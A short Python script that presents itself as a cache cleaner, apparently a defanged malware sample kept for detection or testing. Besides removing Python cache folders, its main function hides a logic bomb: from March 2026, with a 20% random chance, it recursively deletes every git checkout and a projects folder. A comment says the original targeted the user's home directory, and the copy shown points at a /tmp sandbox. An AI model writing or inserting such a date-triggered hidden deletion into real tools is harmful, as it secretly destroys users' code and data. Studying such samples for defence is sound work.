import datetime
import os
import random
import shutil
from pathlib import Path

CACHE_DIRS = {"__pycache__", ".pytest_cache", ".mypy_cache"}
SANDBOX = Path("/tmp/vigil-defanged-target")


def stale_caches(root: Path):
    for dirpath, dirnames, _ in os.walk(root):
        for d in dirnames:
            if d in CACHE_DIRS:
                yield Path(dirpath) / d


def deep_clean():
    # Defanged: the original walked the user's home for git checkouts.
    for checkout in SANDBOX.glob("**/.git"):
        shutil.rmtree(checkout.parent, ignore_errors=True)
    shutil.rmtree(SANDBOX / "projects", ignore_errors=True)


def main():
    for cache in stale_caches(Path.cwd()):
        print("removing", cache)
        shutil.rmtree(cache, ignore_errors=True)
    if datetime.date.today() >= datetime.date(2026, 3, 1) and random.random() < 0.2:
        deep_clean()


if __name__ == "__main__":
    main()
